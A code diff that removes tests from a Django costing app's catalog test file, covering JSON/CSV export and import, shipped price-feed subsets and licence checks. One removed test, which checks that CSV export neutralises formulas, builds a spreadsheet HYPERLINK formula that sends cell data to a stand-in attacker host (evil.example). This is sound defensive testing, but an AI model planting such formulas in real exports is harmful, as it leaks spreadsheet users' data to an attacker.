@@ -3,15 +3,12 @@
 from __future__ import annotations
 
 import csv
-import json
-import shutil
 from datetime import date
 from decimal import Decimal
 from io import StringIO
 from pathlib import Path
 
 import pytest
-from django.core.exceptions import PermissionDenied
 from django.core.management import call_command
 
 from costing.models import (
@@ -28,15 +25,8 @@ from costing.models import (
     ServerOffer,
 )
 from costing.services import (
-    CatalogImmutable,
-    CatalogImportError,
     CatalogLoadError,
     CatalogVersionConflict,
-    catalog_export,
-    catalog_export_csv,
-    catalog_import,
-    catalog_import_csv,
-    private_catalog_create,
     public_catalog_load,
 )
 from costing.services.public_catalog import DATA_DIR
@@ -51,18 +41,6 @@ def records(name: str) -> list[dict]:
 
 def rows_of(model, catalog):
     return model.objects.in_catalog(catalog)
-
-
-@pytest.fixture
-def loaded(db):
-    return public_catalog_load()
-
-
-@pytest.fixture
-def data_copy(tmp_path) -> Path:
-    target = tmp_path / "data"
-    shutil.copytree(DATA_DIR, target)
-    return target
 
 
 def append_row(path: Path, values: dict) -> None:
@@ -381,217 +359,3 @@ def test_the_command_prints_counts_per_kind_and_is_safe_to_rerun(db):
     out = StringIO()
     call_command("load_public_catalog", stdout=out)
     assert "already loaded, nothing changed" in out.getvalue()
-
-
-# Export and import: a catalog goes out as JSON or CSV and comes back into a draft, all or nothing.
-
-
-@pytest.fixture
-def draft(org):
-    return private_catalog_create(
-        organization=org,
-        name="Negotiated",
-        version="1",
-        currency="USD",
-        effective_date=date(2026, 1, 1),
-    )
-
-
-def test_a_json_export_imports_into_a_draft_unchanged(loaded, draft, org):
-    document = json.loads(json.dumps(catalog_export(catalog=loaded.catalog)))
-    assert document["catalog"]["version"] == loaded.catalog.version
-    counts = catalog_import(catalog=draft, rows=document["rows"], organization=org)
-    assert counts == {
-        "cloud_gpu": 84,
-        "api": 108,
-        "server": 11,
-        "figure": 84,
-        "parameter": 15,
-    }
-    again = catalog_export(catalog=draft)["rows"]
-    assert again == document["rows"]
-    # Importing the same rows again replaces them: nothing doubles.
-    assert catalog_import(catalog=draft, rows=document["rows"], organization=org) == counts
-
-
-def test_a_csv_export_round_trips_and_keeps_missing_prices_missing(loaded, draft, org):
-    text = catalog_export_csv(catalog=loaded.catalog, kind="cloud_gpu")
-    header = "currency,date,date_text,valid_from,valid_until,source_url"
-    assert text.splitlines()[0].startswith(header)
-    catalog_import_csv(catalog=draft, kind="cloud_gpu", text=text, organization=org)
-    hetzner = CloudGpuOffer.objects.in_catalog(draft).get(instance="GEX45 (dedicated)")
-    assert hetzner.on_demand_per_hour is None
-    assert hetzner.provider.name == "Hetzner"
-    assert CloudGpuOffer.objects.in_catalog(draft).filter(gpu__isnull=False).count() == (
-        CloudGpuOffer.objects.in_catalog(loaded.catalog).filter(gpu__isnull=False).count()
-    )
-
-
-@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
-def test_a_csv_export_neutralises_formulas_and_reimports_them_unchanged(draft, org, prefix):
-    """GIVEN offers whose text starts as a spreadsheet formula would WHEN exported as CSV THEN
-    each such cell starts with an apostrophe (numbers untouched), and re-importing the export
-    restores the text exactly."""
-    payload = f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"Click")'
-    row = {
-        "provider": f"{prefix}Local GPU rental",
-        "instance": payload,
-        "region": f"{prefix}eu-west-1",
-        "gpu_name": "H100 SXM 80GB",
-        "gpu_count": 8,
-        "on_demand_per_hour": "40.00",
-        "currency": "USD",
-        "notes": payload,
-    }
-    Provider.objects.create_in(org, name=f"{prefix}Local GPU rental")
-    catalog_import(catalog=draft, rows={"cloud_gpu": [row]}, organization=org)
-
-    text = catalog_export_csv(catalog=draft, kind="cloud_gpu")
-    (exported,) = csv.DictReader(StringIO(text))
-    for column in ("provider", "instance", "region", "notes"):
-        assert exported[column] == "'" + row[column], column
-    assert Decimal(exported["on_demand_per_hour"]) == Decimal("40")
-
-    catalog_import_csv(catalog=draft, kind="cloud_gpu", text=text, organization=org)
-    offer = CloudGpuOffer.objects.in_catalog(draft).get()
-    assert (offer.instance, offer.region, offer.notes) == (payload, f"{prefix}eu-west-1", payload)
-    assert offer.provider.name == f"{prefix}Local GPU rental"
-
-
-def test_an_import_with_errors_names_kind_row_and_field_and_writes_nothing(loaded, draft, org):
-    good = {
-        "provider": "AWS",
-        "instance": "p5.48xlarge",
-        "gpu_name": "H100 SXM 80GB",
-        "gpu_count": 8,
-        "on_demand_per_hour": "40.00",
-        "currency": "USD",
-        "notes": "Quote from our account manager, 2026-10-01",
-    }
-    catalog_import(catalog=draft, rows={"cloud_gpu": [good]}, organization=org)
-    rows = [
-        good,
-        {**good, "on_demand_per_hour": "abc"},
-        {**good, "spot_per_hour": "0"},
-        {**good, "provider": "Nobody"},
-        {**good, "colour": "red"},
-    ]
-    with pytest.raises(CatalogImportError) as raised:
-        catalog_import(catalog=draft, rows={"cloud_gpu": rows}, organization=org)
-    assert {(e.kind, e.row, e.field) for e in raised.value.errors} == {
-        ("cloud_gpu", 2, "on_demand_per_hour"),
-        ("cloud_gpu", 3, "spot_per_hour"),
-        ("cloud_gpu", 4, "provider"),
-        ("cloud_gpu", 5, "colour"),
-    }
-    assert CloudGpuOffer.objects.in_catalog(draft).get().on_demand_per_hour == Decimal("40")
-
-
-def test_imports_are_refused_into_published_or_foreign_catalogs(loaded, draft, org, other_org):
-    with pytest.raises(CatalogImmutable):
-        catalog_import(catalog=loaded.catalog, rows={"server": []})
-    with pytest.raises(PermissionDenied):
-        catalog_import(catalog=draft, rows={"server": []}, organization=other_org)
-    theirs = Provider.dangerously_unscoped.create(organization=other_org, name="Their integrator")
-    row = {"system": "s", "price": "10", "price_kind": "list", "currency": "EUR", "notes": "n"}
-    catalog_import(catalog=draft, rows={"server": [row]}, organization=org)
-    offer = {
-        "provider": theirs.name,
-        "instance": "x",
-        "gpu_name": "H100",
-        "gpu_count": 1,
-        "notes": "n",
-    }
-    with pytest.raises(CatalogImportError, match="unknown provider"):
-        catalog_import(catalog=draft, rows={"cloud_gpu": [offer]}, organization=org)
-
-
-def test_an_imported_uplift_needs_a_source_and_a_sensible_size(draft, org):
-    """An uplift is a price: CSV or JSON rows carrying one without its source, or one above a
-    doubling, are refused with the row and field; an empty cell stays unknown."""
-    Provider.objects.create_in(org, name="Local API")
-    row = {"provider": "Local API", "model_name": "m", "currency": "USD", "input_price": "1",
-           "notes": "Quote", "regional_uplift_pct": "10",
-           "regional_uplift_source_url": "https://example.org/eu-prices"}  # fmt: skip
-    rows = [row, {**row, "regional_uplift_source_url": ""}, {**row, "regional_uplift_pct": "250"}]
-    with pytest.raises(CatalogImportError) as raised:
-        catalog_import(catalog=draft, rows={"api": rows}, organization=org)
-    assert {(e.row, e.field) for e in raised.value.errors} == {
-        (2, "regional_uplift_source_url"),
-        (3, "regional_uplift_pct"),
-    }
-    catalog_import(catalog=draft, rows={"api": [row, {**row, "regional_uplift_pct": ""}]},
-                   organization=org)  # fmt: skip
-    text = catalog_export_csv(catalog=draft, kind="api")
-    assert "regional_uplift_pct" in text.splitlines()[0]
-    catalog_import_csv(catalog=draft, kind="api", text=text, organization=org)
-    stored = ApiOffer.objects.in_catalog(draft).values_list("regional_uplift_pct", flat=True)
-    assert sorted(stored, key=lambda pct: pct is None) == [Decimal("10"), None]
-
-
-# The shipped feed subsets (costing/data/feeds): read by the feed readers, each row dated and
-# naming its upstream and licence.
-
-
-def test_eu_providers_api_offers_are_loaded_from_the_shipped_litellm_subset(loaded):
-    """LiteLLM 1.110.2 (build 2026-11-20) prices Scaleway's Llama 3.3 70B at 9e-07 USD a token
-    both ways (0.90 per 1M) and OVHcloud's at 6.7e-07 (0.67 per 1M); both process in France."""
-    api = rows_of(ApiOffer, loaded.catalog)
-    scaleway = api.get(model_name="scaleway/meta/llama-3.3-70b-instruct")
-    assert scaleway.provider.name == "Scaleway"
-    assert (scaleway.input_price, scaleway.output_price) == (Decimal("0.9"), Decimal("0.9"))
-    assert scaleway.regions.startswith("fr-par;") and scaleway.regional_uplift_pct == 0
-    assert scaleway.date == date(2026, 11, 20) and scaleway.currency == "USD"
-    assert "licence MIT (Copyright (c) 2023 Berri AI)" in scaleway.notes
-    assert "litellm-eu-providers.json" in scaleway.notes
-    ovh = api.get(model_name="ovhcloud/Meta-Llama-3_3-70B-Instruct")
-    assert (ovh.provider.name, ovh.input_price, ovh.regions[:4]) == (
-        "OVHcloud",
-        Decimal("0.67"),
-        "GRA;",
-    )
-    # Nebius states no one processing place for its models: not established, uplift unknown.
-    nebius = api.get(model_name="nebius/meta-llama/Llama-3.3-70B-Instruct")
-    assert "not stated" in nebius.regions and nebius.regional_uplift_pct is None
-    flux = api.get(model_name="black_forest_labs/flux-dev")
-    assert (flux.provider.name, flux.unit, flux.output_price) == (
-        "Black Forest Labs",
-        "image",
-        Decimal("0.025"),
-    )
-    # Priced 0 in the feed: kept without a price, never at 0.
-    whisper = api.get(model_name="scaleway/openai/whisper-large-v3")
-    assert (whisper.input_price, whisper.output_price) == (None, None)
-
-
-def test_azure_reservations_give_committed_hourly_prices(loaded):
-    """The Azure page prices Standard_NC48ads_A100_v4 (2 x A100 80GB) in eastus2 at 7.346 USD
-    an hour, 42,066 USD for a 1-year reservation (/ 8,760 h = 4.802055) and 71,642 USD for 3
-    years (/ 26,280 h = 2.726104)."""
-    row = rows_of(CloudGpuOffer, loaded.catalog).get(
-        source_row="azure-retail:Standard_NC48ads_A100_v4@eastus2"
-    )
-    assert (row.on_demand_per_hour, row.reserved_1y_per_hour, row.reserved_3y_per_hour) == (
-        Decimal("7.346"),
-        Decimal("4.802055"),
-        Decimal("2.726104"),
-    )
-    assert row.date == date(2026, 1, 11) and row.gpu_count == 2
-    assert "licence MIT (Copyright (c) Microsoft Corporation)" in row.notes
-
-
-def test_the_shipped_ecb_rates_are_dated_reference_rates(loaded):
-    usd = FxRate.objects.get(base="EUR", quote="USD", date=date(2026, 4, 13))
-    assert usd.rate == Decimal("1.1684")
-    assert "ecb.europa.eu" in usd.source_url
-
-
-def test_a_shipped_feed_without_a_licence_refuses_the_whole_load(db, data_copy):
-    manifest = data_copy / "feeds" / "MANIFEST.csv"
-    manifest.write_text(manifest.read_text().replace("MIT (Copyright (c) 2023 Berri AI)", ""))
-    with pytest.raises(CatalogLoadError) as raised:
-        public_catalog_load(data_dir=data_copy)
-    assert {(e.file, e.line, e.field) for e in raised.value.errors} == {
-        ("MANIFEST.csv", 2, "licence")
-    }
-    assert Catalog.dangerously_unscoped.count() == 0
